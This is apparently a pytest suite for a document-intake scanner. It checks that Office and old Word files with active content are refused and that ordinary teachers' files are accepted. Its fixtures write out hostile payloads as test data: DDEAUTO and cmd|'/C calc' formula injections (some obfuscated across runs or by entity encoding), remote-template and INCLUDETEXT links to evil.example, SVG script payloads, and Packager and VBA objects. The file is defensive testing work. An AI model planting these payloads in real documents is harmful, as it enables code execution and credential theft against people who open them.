"""Office files in which something acts, or hides, are refused; what teachers have is taken."""

from io import BytesIO
from itertools import pairwise
from time import perf_counter
from uuid import UUID
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.intake.domain.media import media_type_of
from services.intake.domain.refusals import AttachmentActive, AttachmentLocked, AttachmentTypeRefused
from tests.old_word import MATHTYPE, compound, old_word

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
EQUATION = compound(
    {"\x01Ole": bytes(20), "Equation Native": b"\x1c" * 90, "\x01CompObj": bytes(60)}, root=MATHTYPE
)
PACKAGER = UUID("0003000c-0000-0000-c000-000000000046")
PAINT = UUID("0003000a-0000-0000-c000-000000000046")
FLASH = UUID("d27cdb6e-ae6d-11cf-96b8-444553540000")
URL_MONIKER = UUID("79eac9e0-baf9-11ce-8c82-00aa004ba90b").bytes_le


def office(kind: str, parts: dict[str, str | bytes] | None = None, *, pressed: int = ZIP_DEFLATED) -> bytes:
    content = BytesIO()
    with ZipFile(content, "w", pressed) as archive:
        for name, text in {"[Content_Types].xml": "<Types/>", MAIN[kind]: "<x/>", **(parts or {})}.items():
            archive.writestr(name, text)
    return content.getvalue()


def code(*runs: str, result: str = "x") -> str:
    """A field whose code comes in these runs."""
    said = "".join(f"<w:r><w:instrText xml:space='preserve'>{run}</w:instrText></w:r>" for run in runs)
    marks = [f"<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>" for kind in ("begin", "separate", "end")]
    return f"{marks[0]}{said}{marks[1]}<w:r><w:t>{result}</w:t></w:r>{marks[2]}"


def body(content: str, root: str = "document") -> str:
    return f"<w:{root} {W}><w:p>{content}</w:p></w:{root}>"


def relation(kind: str, target: str) -> str:
    return f'<x><Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/></x>'


DDE = code('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
NESTED = f"<w:fldChar w:fldCharType='begin'/>{code('QUOTE 68 68 69')} x <w:fldChar w:fldCharType='end'/>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
ACTING: list[tuple[str, dict[str, str | bytes]]] = [
    ("docx", {"word/document.xml": body(DDE)}),
    ("docx", {"word/document.xml": body(code("D", "D", "EAU", "TO c:\\\\x"))}),
    ("docx", {"word/document.xml": body(code("&#68;DE c:\\\\x"))}),
    ("docx", {"word/document.xml": body(code(' "dde" c:\\\\x'))}),
    ("docx", {"word/document.xml": body(NESTED)}),
    ("docx", {"word/document.xml": body("<w:fldSimple w:instr=' DDE excel x'/>")}),
    (
        "docx",
        {"word/document.xml": body("<w:fldChar w:fldCharType='begin'/><w:instrText>DDE x</w:instrText>")},
    ),
    ("docx", {"word/document.xml": body(DDE).replace("w:", "q:").encode("utf-16")}),
    *[
        ("docx", {f"word/{part}": body(DDE, root)})
        for part, root in (
            ("header1.xml", "hdr"),
            ("footer2.xml", "ftr"),
            ("comments.xml", "comments"),
            ("footnotes.xml", "footnotes"),
            ("endnotes.xml", "endnotes"),
            ("glossary/document.xml", "glossaryDocument"),
            ("anything.bin", "hdr"),
        )
    ],
    ("docx", {"word/document.xml": body(f"<w:txbxContent><w:p>{DDE}</w:p></w:txbxContent>")}),
    ("docx", {"word/document.xml": body(code('INCLUDETEXT "https://evil.example/x.docx"'))}),
    ("docx", {"word/document.xml": body(code('INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png"'))}),
    ("docx", {"word/document.xml": body(code('LINK Excel.Sheet.12 "file://evil.example/x.xlsx"'))}),
    ("docx", {"word/document.xml": body('<w:altChunk r:id="r1"/>')}),
    (
        "docx",
        {"[Content_Types].xml": '<Types><Default ContentType="x.activeX+xml"/></Types>'},
    ),
    ("docx", {"word/afchunk.mht": "x"}),
    ("docx", {"word/a.html": "<html/>"}),
    ("docx", {"word/a.xml": "<html><body/></html>"}),
    ("docx", {"word/media/a.bin": b"{\\rtf1 \\object}"}),
    ("docx", {"word/media/image1.png": b"MZ\x90\x00"}),
    ("docx", {"word/media/a.svg": SVG.format("<script>alert(1)</script>")}),
    ("docx", {"word/media/a.svg": SVG.format('<g onload="alert(1)"/>')}),
    ("docx", {"word/media/a.svg": SVG.format('<a href=" javascript:alert(1)"/>')}),
    ("docx", {"word/media/a.svg": SVG.format('<image href="https://evil.example/x.png"/>')}),
    ("docx", {"word/media/a.svg": SVG.format("<foreignObject/>")}),
    ("docx", {"word/document.xml": '<x><v:imagedata src="https://evil.example/x.png"/></x>'}),
    ("xlsx", {"xl/drawings/a.vml": '<x><br><v:imagedata src="&#104;ttp://evil.example/a.png"/></x>'}),
    ("docx", {"word/document.xml": '<x><o:OLEObject Type="Embed" ProgID="Package"/></x>'}),
    ("docx", {"word/document.xml": '<x><o:OLEObject Type="Link" ProgID="htmlfile"/></x>'}),
    ("docx", {"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"x.exe"}, root=PACKAGER)}),
    ("docx", {"word/embeddings/oleObject1.bin": compound({"CONTENTS": b"x"}, root=FLASH)}),
    ("docx", {"word/media/image1.png": compound({"x": b"x"}, storages={"VBA": None})}),
    ("docx", {"word/embeddings/oleObject1.bin": compound({"\x01Ole": URL_MONIKER}, root=MATHTYPE)}),
    ("docx", {"word/embeddings/a.bin": compound({"\x01Ole": "http://evil".encode("utf-16-le")})}),
    ("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
    (
        "docx",
        {"word/embeddings/a.bin": compound({"Package": office("docx", {"word/document.xml": body(DDE)})})},
    ),
    ("pptx", {"ppt/slides/slide1.xml": '<x><a:hlinkMouseOver action="ppaction://program"/></x>'}),
    ("pptx", {"ppt/slides/slide1.xml": '<x><a:hlinkClick action="ppaction://macro?name=x"/></x>'}),
    ("pptx", {"ppt/slides/slide1.xml": '<x><p:oleObj progId="Packager Shell Object"/></x>'}),
    ("pptx", {"ppt/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"x"})}),
    ("xlsx", {"xl/worksheets/sheet1.xml": "<worksheet><f>cmd|'/C calc'!A0</f></worksheet>"}),
    ("xlsx", {"xl/worksheets/sheet1.xml": "<worksheet><f>1+cmd|' /C calc'!'A0'</f></worksheet>"}),
    ("xlsx", {"xl/worksheets/sheet1.xml": "<worksheet><f>&#99;md<y/>&#124;'/C calc'!A0</f></worksheet>"}),
    ("xlsx", {"xl/worksheets/sheet1.xml": '<worksheet><f>DDE("soffice";"x";"y")</f></worksheet>'}),
    ("xlsx", {"xl/worksheets/sheet1.xml": '<worksheet><f>_xlfn.WEBSERVICE("http://evil")</f></worksheet>'}),
    ("xlsx", {"xl/worksheets/sheet1.xml": "<worksheet><formula1>cmd|'/C calc'!A0</formula1></worksheet>"}),
    (
        "xlsx",
        {"xl/workbook.xml": "<workbook><definedName name='a'>cmd|'/C calc'!A0</definedName></workbook>"},
    ),
    ("xlsx", {"xl/externalLinks/externalLink1.xml": '<x><oleLink progId="Package"/></x>'}),
    ("xlsx", {"xl/externalLinks/externalLink1.bin": b"\x01\x02"}),
    ("xlsx", {"xl/externalLinks/_rels/x.rels": relation("externalLinkPath", "https://evil.example/a.xlsx")}),
    (
        "xlsx",
        {"xl/externalLinks/_rels/x.rels": relation("externalLinkPath", "file:///\\\\evil\\share\\a.xlsx")},
    ),
    ("xlsx", {"xl/connections.xml": '<x><connection refreshOnLoad="1"><dbPr/></connection></x>'}),
    ("xlsx", {"xl/connections.xml": '<x><connection><webPr url="http://evil.example"/></connection></x>'}),
    (
        "xlsx",
        {"xl/_rels/workbook.xml.rels": '<x><Relationship Type="http://x/xlMacrosheet" Target="a.xml"/></x>'},
    ),
    ("xlsx", {"xl/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"x"})}),
]


@pytest.mark.parametrize(("kind", "parts"), ACTING)
def test_what_acts_in_it_is_refused(kind: str, parts: dict[str, str | bytes]) -> None:
    with pytest.raises(AttachmentActive):
        media_type_of(f"tep.{kind}", office(kind, parts))


@pytest.mark.parametrize(
    ("kind", "parts"),
    [
        ("docx", {"word/document.xml": body(code("PAGE") + code(" DATE \\@ dd/MM/yyyy ") + code("=1+1"))}),
        ("docx", {"word/document.xml": body(code('HYPERLINK "https://example.vn/"') + "DDEAUTO c:\\x")}),
        (
            "docx",
            {
                "word/document.xml": body(
                    code("EMBED Equation.DSMT4") + code("TOC \\o 1-3", result=code("PAGEREF _1"))
                )
            },
        ),
        (
            "docx",
            {
                "word/document.xml": body(
                    code('INCLUDEPICTURE "https://example.vn/a.png" \\* MERGEFORMATINET')
                )
            },
        ),
        (
            "docx",
            {"word/document.xml": body(code('LINK Excel.Sheet.12 "D:\\\\Bảng\\\\diem.xlsx" "Sheet1!R1C1"'))},
        ),
        ("docx", {"word/document.xml": body("<w:fldSimple w:instr=' NUMPAGES '/>")}),
        ("docx", {"word/document.xml": body(code("MACROBUTTON NoMacro [Ghi tên]"))}),
        ("docx", {"word/document.xml": '<x><v:imagedata r:id="r1"/><o:OLEObject ProgID="Equation.3"/></x>'}),
        ("docx", {"word/embeddings/oleObject1.bin": EQUATION}),
        ("docx", {"word/document.xml": body("<m:f><m:num><m:t>|x|</m:t></m:num><m:den/></m:f>")}),
        (
            "docx",
            {
                "word/embeddings/Bang_tinh.xlsx": office(
                    "xlsx", {"xl/worksheets/a.xml": "<worksheet><f>SUM(A1:A3)</f></worksheet>"}
                )
            },
        ),
        (
            "docx",
            {"word/media/image1.png": b"\x89PNG\r\n\x1a\n <script>", "word/media/image2.emf": b"\x01\0\0\0"},
        ),
        (
            "docx",
            {
                "word/media/a.svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">'
                + SVG.format("<path/>")
            },
        ),
        (
            "docx",
            {"word/media/a.svg": SVG.format('<image href="data:image/png;base64,xx"/><use href="#a"/>')},
        ),
        ("xlsx", {"xl/drawings/vmlDrawing1.vml": "<x><font>Ghi chú<br></font><v:fill src='a.png'/></x>"}),
        ("docx", {"word/_rels/document.xml.rels": relation("hyperlink", "https://example.vn/activeX")}),
        ("docx", {"docProps/custom.xml": "", "word/fonts/font1.odttf": b"\xff\xd8 anything"}),
        ("pptx", {"ppt/slides/slide1.xml": '<x><a:hlinkClick action="ppaction://hlinksldjump"/></x>'}),
        ("pptx", {"ppt/slides/slide1.xml": '<x><p:oleObj progId="PowerPoint.Slide.12"/></x>'}),
        ("pptx", {"ppt/media/media1.mp4": b"\x00\x00\x00\x18ftypmp42\x00"}),
        (
            "xlsx",
            {"xl/worksheets/sheet1.xml": "<worksheet><f>IF(A1=\"a|b\",'B|1'!A1)</f><v>a|b!c</v></worksheet>"},
        ),
        (
            "xlsx",
            {"xl/workbook.xml": "<workbook><definedName>'Danh sách'!$A$1:$B$2</definedName></workbook>"},
        ),
        (
            "xlsx",
            {"xl/externalLinks/_rels/x.rels": relation("externalLinkPath", "file:///D:\\Bang\\diem.xlsx")},
        ),
        ("xlsx", {"xl/externalLinks/_rels/x.rels": relation("externalLinkPath", "diem%20thi.xlsx")}),
        ("xlsx", {"xl/connections.xml": '<x><connection refreshOnLoad="0"><dbPr/></connection></x>'}),
        ("xlsx", {"xl/styles.xml": "<x><fill/><stroke/></x>", "xl/printerSettings/a.bin": b"\x00\x01"}),
    ],
)
def test_what_teachers_have_is_taken(kind: str, parts: dict[str, str | bytes]) -> None:
    assert media_type_of(f"tep.{kind}", office(kind, parts)).startswith("application/")


@given(cuts=st.sets(st.integers(0, 20)), blanks=st.text(" \t\u00a0", max_size=3), small=st.booleans())
@settings(max_examples=60, deadline=None)
def test_a_code_is_the_same_in_however_many_runs(cuts: set[int], blanks: str, small: bool) -> None:
    said = blanks + ("ddeauto" if small else "DDEAUTO") + " cmd x"
    places = sorted({0, *(cut for cut in cuts if cut < len(said)), len(said)})
    runs = [said[start:end] for start, end in pairwise(places)]
    with pytest.raises(AttachmentActive):
        media_type_of("don.docx", office("docx", {"word/document.xml": body(code(*runs))}))


def test_another_kind_of_file_at_the_head_of_an_archive_is_refused() -> None:
    for head in (b"%PDF-1.4\n1 0 obj", b"<script>alert(1)</script>"):
        parts: dict[str, str | bytes] = {"a.png": head}
        content = BytesIO()
        with ZipFile(content, "w", ZIP_STORED) as archive:
            for name, text in {
                **parts,
                "[Content_Types].xml": "<Types/>",
                "word/document.xml": "<x/>",
            }.items():
                archive.writestr(name, text)
        with pytest.raises(AttachmentTypeRefused):
            media_type_of("don.docx", content.getvalue())


def test_packages_in_packages_end_somewhere() -> None:
    content = office("docx")
    for _ in range(4):
        content = office("docx", {"word/embeddings/a.docx": content})
    with pytest.raises(AttachmentActive):
        media_type_of("don.docx", content)


def test_more_elements_than_people_write_are_refused_in_time() -> None:
    content = office("xlsx", {"xl/worksheets/sheet1.xml": "<x>" + "<c/>" * 4_000_000 + "</x>"})
    began = perf_counter()
    with pytest.raises(AttachmentTypeRefused):
        media_type_of("bom.xlsx", content)
    assert perf_counter() - began < 10


def test_a_locked_document_is_refused_as_such() -> None:
    locked = compound({"EncryptedPackage": b"x" * 5_000, "EncryptionInfo": b"x"})
    for kind in MAIN:
        with pytest.raises(AttachmentLocked):
            media_type_of(f"tep.{kind}", locked)
    with pytest.raises(AttachmentLocked):
        media_type_of("don.doc", old_word("x", flags=0x0100))
    with pytest.raises(AttachmentLocked):
        media_type_of("don.doc", locked)


FIELD = "\x13 {} \x14 x \x15"


@pytest.mark.parametrize(
    "content",
    [
        old_word(FIELD.format("DDEAUTO c:\\\\x")),
        old_word(FIELD.format("DDE excel x"), narrow=True),
        old_word("Trang \x13 DDE", "AUTO c:\\\\x \x15"),
        old_word("\x13 \x13 QUOTE 68 68 69 \x15 c:\\\\x \x15"),
        old_word(FIELD.format('INCLUDETEXT "http://evil.example/x.doc"')),
        old_word("x", template="http://evil.example/t.dot"),
        old_word("x", template="\\\\evil\\share\\t.dot"),
        old_word("x", storages={"Macros": None, "VBA": None}),
        old_word("x", more={"_VBA_PROJECT": b"x"}),
        old_word("x", more={"\x01Ole10Native": b"x.exe"}, storages={"ObjectPool": None, "_1": PACKAGER}),
        old_word("x", storages={"_1234": FLASH}),
        old_word("x", more={"\x03OCXNAME": b"x"}),
        old_word("x", more={"\x01Ole": b"\\\\evil\\x"}),
        old_word("x", more={"Package": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
    ],
)
def test_what_acts_in_an_old_document_is_refused(content: bytes) -> None:
    with pytest.raises(AttachmentActive):
        media_type_of("don.doc", content)


@pytest.mark.parametrize(
    "content",
    [
        old_word("Đơn đề nghị công nhận sáng kiến. DDEAUTO"),
        old_word("Don de nghi " * 900, narrow=True),
        old_word(
            "Trang ", FIELD.format("PAGE"), FIELD.format("EMBED Equation.3"), template="C:\\Mau\\Don.dot"
        ),
        old_word("x", storages={"ObjectPool": None, "_1": MATHTYPE}, more={"Equation Native": b"x"}),
        old_word("x", storages={"_1": PAINT}, more={"\x01Ole10Native": b"\x20\0\0\0BM" + bytes(26)}),
        old_word(FIELD.format('HYPERLINK "https://example.vn/"')),
    ],
)
def test_an_old_document_is_taken(content: bytes) -> None:
    assert media_type_of("don.doc", content) == "application/msword"


@given(content=st.binary(max_size=3_000), at=st.integers(8, 4_000), whole=st.booleans())
@settings(max_examples=200, deadline=None)
def test_a_broken_old_document_never_crashes(content: bytes, at: int, whole: bool) -> None:
    good = old_word("Trang ", FIELD.format("PAGE"))
    broken = good[:at] + content + (good[at + len(content) :] if whole else b"")
    try:
        media_type_of("don.doc", broken)
    except (AttachmentTypeRefused, AttachmentActive, AttachmentLocked):
        return
